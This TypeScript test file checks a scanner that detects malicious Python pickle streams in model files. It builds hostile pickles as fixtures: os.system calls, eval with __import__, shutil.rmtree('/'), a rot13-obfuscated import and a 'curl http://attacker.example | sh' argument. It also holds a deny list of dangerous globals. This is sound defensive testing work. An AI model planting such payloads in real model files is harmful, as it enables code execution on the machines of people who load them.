import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import {
  bufferSource,
  judgeGlobal,
  scanBytes,
  walkPickles,
  type CallableFinding,
  type PickleImport,
  type PickleWalk,
} from '../../src/scan/index.js';
import { Pickle, protocol0System, protocol4StackGlobal, torchStateDictPickle } from './builders.js';

const LIMITS = { maxOps: 100_000, maxDepth: 1000, maxMemo: 10_000 };

function walk(bytes: Buffer, limits = LIMITS, budget = 1 << 24): PickleWalk {
  return walkPickles(bufferSource(bytes), { limits, budget: { remaining: budget } });
}

function globals(w: PickleWalk): string[] {
  return w.imports.map((i: PickleImport) =>
    i.kind === 'global' ? `${i.module}.${i.name}` : i.kind === 'unresolved' ? '?' : `ext${i.code}`,
  );
}

function callables(bytes: Buffer, name = 'x.pkl'): CallableFinding[] {
  return scanBytes(name, bytes).findings.filter((f): f is CallableFinding => f.kind === 'callable');
}

describe('pickle walker: malicious streams', () => {
  test("protocol 0 `cos\\nsystem\\n(S'echo hi'\\ntR.` is os.system, called with its command", () => {
    const bytes = protocol0System();
    assert.equal(bytes.toString('latin1'), "cos\nsystem\n(S'echo hi'\ntR.");
    const w = walk(bytes);
    assert.equal(w.outcome.kind, 'complete');
    const imp = w.imports[0];
    assert.ok(imp?.kind === 'global');
    assert.deepEqual(
      [imp.opcode, imp.module, imp.name, imp.offset, imp.calls],
      ['GLOBAL', 'os', 'system', 0, 1],
    );
    assert.deepEqual(imp.args, ['"echo hi"']);
    const [f] = callables(bytes);
    assert.equal(f?.rule, 'pickle.dangerous-callable');
    assert.equal(f?.severity, 'critical');
    assert.equal(f?.callable, 'os.system');
    assert.equal(f?.offset, 0);
  });

  test('protocol 4 STACK_GLOBAL resolves module and name through MEMOIZE and BINGET', () => {
    const w = walk(protocol4StackGlobal());
    assert.equal(w.outcome.kind, 'complete');
    assert.deepEqual(globals(w), ['posix.system']);
    const imp = w.imports[0]!;
    assert.ok(imp.kind === 'global');
    assert.equal(imp.opcode, 'STACK_GLOBAL');
    assert.equal(imp.offset, 28, 'offset of the STACK_GLOBAL opcode');
    assert.equal(imp.calls, 1, 'the call goes through the memo copy');
    assert.deepEqual(imp.args, ['"curl http://attacker.example | sh"']);
  });

  test('protocol 2 with BINPUT/BINGET and builtins.eval via __builtin__', () => {
    const bytes = new Pickle()
      .proto(2)
      .global('__builtin__', 'eval')
      .binput(0)
      .pop()
      .binget(0)
      .str('__import__("os").system("id")')
      .tuple1()
      .reduce()
      .stop()
      .bytes();
    const [f] = callables(bytes);
    assert.equal(f?.callable, '__builtin__.eval');
    assert.equal(f?.severity, 'critical');
    assert.equal(f?.calls, 1);
  });

  test('INST, OBJ, NEWOBJ and NEWOBJ_EX all count as calls', () => {
    const bytes = new Pickle()
      .proto(4)
      .mark()
      .str('id')
      .inst('subprocess', 'check_output')
      .pop()
      .mark()
      .global('webbrowser', 'open')
      .str('http://x')
      .obj()
      .pop()
      .global('socket', 'socket')
      .emptyTuple()
      .newobj()
      .pop()
      .global('shutil', 'rmtree')
      .str('/')
      .tuple1()
      .emptyDict()
      .newobjEx()
      .stop()
      .bytes();
    const found = callables(bytes).map((f) => [f.callable, f.opcode, f.calls, f.severity]);
    assert.deepEqual(found.sort(), [
      ['shutil.rmtree', 'GLOBAL', 1, 'critical'],
      ['socket.socket', 'GLOBAL', 1, 'high'],
      ['subprocess.check_output', 'INST', 1, 'critical'],
      ['webbrowser.open', 'GLOBAL', 1, 'high'],
    ]);
  });

  test('a STACK_GLOBAL operand computed by a call is unresolved, not guessed', () => {
    const bytes = new Pickle()
      .proto(4)
      .str('codecs')
      .str('decode')
      .stackGlobal()
      .str('bf')
      .str('rot13')
      .tuple2()
      .reduce() // codecs.decode('bf', 'rot13') == 'os' at load time
      .str('system')
      .stackGlobal()
      .stop()
      .bytes();
    const f = callables(bytes);
    assert.deepEqual(f.map((x) => [x.rule, x.severity]).sort(), [
      ['pickle.unknown-callable', 'medium'],
      ['pickle.unresolved-callable', 'high'],
    ]);
  });

  test('STACK_GLOBAL on values that cannot be strings is a malformed stream', () => {
    const w = walk(new Pickle().proto(4).int(1).int(2).stackGlobal().stop().bytes());
    assert.equal(w.outcome.kind, 'malformed');
  });

  test('a dotted name walks attributes: torch + serialization.os.system reaches os', () => {
    const bytes = new Pickle()
      .proto(4)
      .str('torch')
      .str('serialization.os.system')
      .stackGlobal()
      .stop()
      .bytes();
    const [f] = callables(bytes);
    assert.equal(f?.severity, 'critical');
    assert.equal(f?.rule, 'pickle.dangerous-callable');
  });

  test('EXT1/EXT2/EXT4 are reported as extension imports', () => {
    const bytes = new Pickle().proto(2).ext1(1).pop().ext2(300).pop().ext4(70000).stop().bytes();
    const f = callables(bytes);
    assert.deepEqual(f.map((x) => [x.opcode, x.rule]).sort(), [
      ['EXT1', 'pickle.extension-code'],
      ['EXT2', 'pickle.extension-code'],
      ['EXT4', 'pickle.extension-code'],
    ]);
  });

  test('text GET/PUT and protocol 0 UNICODE resolve too', () => {
    const p = new Pickle()
      .proto(4)
      .unicode('nt')
      .put(5)
      .pop()
      .get(5)
      .unicode('spawnv')
      .stackGlobal()
      .stop()
      .bytes();
    assert.deepEqual(globals(walk(p)), ['nt.spawnv']);
  });
});

describe('pickle walker: clean streams', () => {
  for (const protocol of [2, 4] as const) {
    test(`a torch state_dict (protocol ${protocol}) has only safe globals`, () => {
      const bytes = torchStateDictPickle(['layer.weight', 'layer.bias', 'head.weight'], protocol);
      const w = walk(bytes);
      assert.equal(w.outcome.kind, 'complete');
      assert.deepEqual(globals(w).sort(), [
        'collections.OrderedDict',
        'torch.FloatStorage',
        'torch._utils._rebuild_tensor_v2',
      ]);
      const od = w.imports.find((i) => i.kind === 'global' && i.name === 'OrderedDict');
      assert.equal(od?.calls, 4, 'one OrderedDict() for the dict, one per tensor for hooks');
      const report = scanBytes('model.pt', bytes);
      assert.deepEqual(report.findings, []);
      assert.equal(report.files[0]?.format, 'pickle');
      assert.equal(report.files[0]?.status, 'complete');
    });
  }

  test('a legacy torch.save file: five pickles, then raw storage bytes', () => {
    const magic = new Pickle()
      .proto(2)
      .long1(Buffer.from('6cfc9c46f9206aa85019', 'hex'))
      .stop()
      .bytes();
    const version = new Pickle().proto(2).int(100).stop().bytes();
    const sysInfo = new Pickle().proto(2).emptyDict().stop().bytes();
    const keys = new Pickle().proto(2).mark().str('0').list().stop().bytes();
    // Storage data that happens to start like a pickle must not be walked.
    const raw = Buffer.concat([Buffer.from([0x80, 0x02, 0xff, 0xff]), Buffer.alloc(64, 0xee)]);
    const bytes = Buffer.concat([magic, version, sysInfo, torchStateDictPickle(['w']), keys, raw]);
    const w = walk(bytes);
    assert.equal(w.outcome.kind, 'complete');
    assert.equal(w.legacyTorch, true);
    assert.equal(w.streams, 5);
    assert.deepEqual(w.anomalies, []);
    assert.deepEqual(scanBytes('pytorch_model.bin', bytes).findings, []);
  });

  test('bytes after a plain pickle are an info finding, not a second stream', () => {
    const bytes = Buffer.concat([new Pickle().proto(4).none().stop().bytes(), Buffer.from('junk')]);
    const report = scanBytes('x.pkl', bytes);
    assert.deepEqual(
      report.findings.map((f) => [f.rule, f.severity]),
      [['pickle.trailing-data', 'info']],
    );
  });

  test('a second pickle stream back to back is walked as well', () => {
    const bytes = Buffer.concat([
      new Pickle().proto(4).none().stop().bytes(),
      protocol4StackGlobal(),
    ]);
    assert.deepEqual(globals(walk(bytes)), ['posix.system']);
  });
});

describe('pickle walker: hostile input ends in a typed outcome', () => {
  test('deep MARK nesting stops at the depth limit', () => {
    const bytes = Buffer.concat([
      Buffer.from([0x80, 0x02]),
      Buffer.alloc(100_000, 0x28),
      Buffer.from('.'),
    ]);
    const w = walk(bytes);
    assert.equal(w.outcome.kind, 'limit');
    assert.ok(w.outcome.kind === 'limit' && w.outcome.limit === 'depth');
    const report = scanBytes('x.pkl', bytes);
    assert.deepEqual(
      report.findings.map((f) => [f.kind, f.rule, f.severity]),
      [['unscanned', 'scan.limit', 'high']],
    );
    assert.equal(report.files[0]?.status, 'incomplete');
  });

  test('memo index 2^31 is stored without allocating and reported', () => {
    const bytes = new Pickle()
      .proto(2)
      .str('os')
      .longBinput(2 ** 31)
      .longBinget(2 ** 31)
      .str('system')
      .stackGlobal()
      .stop()
      .bytes();
    const w = walk(bytes);
    assert.equal(w.outcome.kind, 'complete');
    assert.deepEqual(
      w.anomalies.map((a) => a.kind),
      ['memo-abuse'],
    );
    assert.deepEqual(globals(w), ['os.system']);
    const rules = scanBytes('x.pkl', bytes)
      .findings.map((f) => f.rule)
      .sort();
    assert.deepEqual(rules, ['pickle.dangerous-callable', 'pickle.memo-abuse']);
  });

  test('BINGET of a memo slot never stored is malformed', () => {
    assert.equal(walk(new Pickle().proto(2).binget(7).stop().bytes()).outcome.kind, 'malformed');
  });

  for (const [op, n] of [
    ['LONG4', 2n ** 31n - 1n],
    ['BINUNICODE', 2n ** 32n - 1n],
    ['BINUNICODE8', 2n ** 63n],
    ['BINBYTES8', 2n ** 64n - 1n],
    ['BINSTRING', 2n ** 31n - 1n],
  ] as const) {
    test(`${op} with a length of ${n} past the end is truncated, nothing allocated`, () => {
      const bytes = new Pickle().proto(4).lengthOnly(op, n).stop().bytes();
      const w = walk(bytes);
      assert.equal(w.outcome.kind, 'truncated');
      const report = scanBytes('x.pkl', bytes);
      assert.deepEqual(
        report.findings.map((f) => [f.rule, f.severity]),
        [['pickle.malformed', 'high']],
      );
    });
  }

  test('negative LONG4 and BINSTRING lengths are malformed', () => {
    assert.equal(
      walk(new Pickle().proto(2).raw([0x8b, 0xff, 0xff, 0xff, 0xff]).stop().bytes()).outcome.kind,
      'malformed',
    );
    assert.equal(
      walk(new Pickle().raw([0x54, 0xff, 0xff, 0xff, 0xff]).stop().bytes()).outcome.kind,
      'malformed',
    );
  });

  test('an opcode budget ends a long stream', () => {
    const bytes = Buffer.concat([
      Buffer.from([0x80, 0x02]),
      Buffer.alloc(5000, 0x4e),
      Buffer.from('.'),
    ]);
    const w = walk(bytes, { ...LIMITS, maxOps: 1000 });
    assert.ok(w.outcome.kind === 'limit' && w.outcome.limit === 'ops');
    assert.ok(w.ops <= 1001);
  });

  test('the byte budget stops reading and says so', () => {
    const w = walk(
      Buffer.concat([Buffer.from([0x80, 0x02]), Buffer.alloc(200_000, 0x4e)]),
      LIMITS,
      70_000,
    );
    assert.ok(w.outcome.kind === 'limit' && w.outcome.limit === 'bytes');
  });

  test('an invalid opcode and a protocol above 5 are malformed', () => {
    assert.equal(walk(Buffer.from([0x80, 0x02, 0xff])).outcome.kind, 'malformed');
    assert.equal(walk(Buffer.from([0x80, 0x06, 0x4e, 0x2e])).outcome.kind, 'malformed');
  });

  test('findings before a fault are kept beside the could-not-scan finding', () => {
    const bytes = Buffer.concat([protocol0System().subarray(0, -1), Buffer.from([0xff])]);
    const rules = scanBytes('x.pkl', bytes).findings.map((f) => f.rule);
    assert.deepEqual(rules.sort(), ['pickle.dangerous-callable', 'pickle.malformed']);
  });

  test('random bytes: the walker returns its own result, never throws, within its budget', () => {
    const limits = { maxOps: 2000, maxDepth: 50, maxMemo: 100 };
    const run = (bytes: Uint8Array) => {
      const w = walkPickles(bufferSource(Buffer.from(bytes)), {
        limits,
        budget: { remaining: 1 << 20 },
      });
      assert.notEqual(w.outcome.kind, 'error', JSON.stringify(w.outcome));
      assert.ok(w.ops <= limits.maxOps + 1);
      assert.ok(w.end >= 0 && w.end <= bytes.length);
    };
    fc.assert(fc.property(fc.uint8Array({ maxLength: 2048 }), run), { numRuns: 300 });
    // Bytes that start like a binary pickle and are built from real opcodes get further in.
    const opcodeBytes = fc.array(
      fc.oneof(
        fc.constantFrom(
          ...[
            0x28, 0x2e, 0x30, 0x31, 0x32, 0x4e, 0x52, 0x61, 0x62, 0x65, 0x73, 0x74, 0x75, 0x81,
            0x85, 0x86, 0x87, 0x93, 0x94, 0x29, 0x5d, 0x7d,
          ].map((b) => [b]),
        ),
        fc.constantFrom(
          [0x8c, 2, 0x6f, 0x73],
          [0x8c, 6, 0x73, 0x79, 0x73, 0x74, 0x65, 0x6d],
          [0x68, 0],
          [0x71, 1],
          [0x4b, 3],
        ),
        fc.uint8Array({ maxLength: 6 }).map((a) => [...a]),
      ),
      { maxLength: 400 },
    );
    fc.assert(
      fc.property(opcodeBytes, (ops) => run(Uint8Array.from([0x80, 0x04, ...ops.flat()]))),
      { numRuns: 300 },
    );
    // Truncations and byte flips of a real pickle.
    const good = torchStateDictPickle(['a', 'b'], 4);
    fc.assert(
      fc.property(
        fc.nat(good.length),
        fc.nat(good.length - 1),
        fc.integer({ min: 0, max: 255 }),
        (cut, at, v) => {
          const b = Buffer.from(good);
          b[at] = v;
          run(b.subarray(0, cut));
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('judging globals', () => {
  test('deny list, safe list, unknown', () => {
    const kind = (m: string, n: string) => {
      const v = judgeGlobal(m, n);
      return v.kind === 'dangerous' ? v.severity : v.kind;
    };
    assert.equal(kind('os', 'system'), 'critical');
    assert.equal(kind('os.path', 'join'), 'critical', 'the whole os module and its submodules');
    assert.equal(kind('posix', 'system'), 'critical');
    assert.equal(kind('nt', 'system'), 'critical');
    assert.equal(kind('subprocess', 'Popen'), 'critical');
    assert.equal(kind('builtins', 'exec'), 'critical');
    assert.equal(kind('builtins', 'getattr'), 'critical');
    assert.equal(kind('builtins', '__import__'), 'critical');
    assert.equal(kind('__builtin__', 'open'), 'critical');
    assert.equal(kind('builtins', 'map'), 'high');
    assert.equal(kind('runpy', '_run_code'), 'critical');
    assert.equal(kind('importlib', 'import_module'), 'critical');
    assert.equal(kind('pickle', 'loads'), 'critical');
    assert.equal(kind('marshal', 'loads'), 'critical');
    assert.equal(kind('ctypes', 'CDLL'), 'critical');
    assert.equal(kind('sys', 'modules'), 'critical');
    assert.equal(kind('code', 'InteractiveInterpreter'), 'critical');
    assert.equal(kind('requests.api', 'get'), 'high');
    assert.equal(kind('urllib.request', 'urlopen'), 'high');
    assert.equal(kind('http.client', 'HTTPConnection'), 'high');
    assert.equal(kind('operator', 'attrgetter'), 'critical');
    assert.equal(kind('numpy.testing._private.utils', 'runstring'), 'critical');
    assert.equal(kind('torch.hub', 'load'), 'critical');
    assert.equal(kind('collections', '__builtins__'), 'high');
    assert.equal(kind('torch._utils', '_rebuild_tensor_v2'), 'safe');
    assert.equal(kind('torch', 'FloatStorage'), 'safe');
    assert.equal(kind('torch', 'bfloat16'), 'safe');
    assert.equal(kind('collections', 'OrderedDict'), 'safe');
    assert.equal(kind('numpy.core.multiarray', '_reconstruct'), 'safe');
    assert.equal(kind('numpy._core.multiarray', '_reconstruct'), 'safe');
    assert.equal(kind('numpy', 'dtype'), 'safe');
    assert.equal(kind('numpy.dtypes', 'Float32DType'), 'safe');
    assert.equal(kind('copy_reg', '_reconstructor'), 'safe');
    assert.equal(kind('builtins', 'set'), 'safe');
    assert.equal(kind('torch._utils', '_rebuild_tensor_v2.__globals__'), 'high');
    assert.equal(kind('transformers.training_args', 'TrainingArguments'), 'unknown');
    assert.equal(kind('__main__', 'Net'), 'unknown');
  });

  test('--allow-global adds exact names and never overrides the deny list', () => {
    assert.equal(
      judgeGlobal('mypkg.layers', 'Block', new Set(['mypkg.layers.Block'])).kind,
      'safe',
    );
    assert.equal(
      judgeGlobal('mypkg.layers', 'Other', new Set(['mypkg.layers.Block'])).kind,
      'unknown',
    );
    assert.equal(judgeGlobal('os', 'system', new Set(['os.system'])).kind, 'dangerous');
    const report = scanBytes('x.pkl', new Pickle().proto(2).global('mypkg', 'Net').stop().bytes(), {
      allowGlobals: ['mypkg.Net'],
    });
    assert.deepEqual(report.findings, []);
  });
});
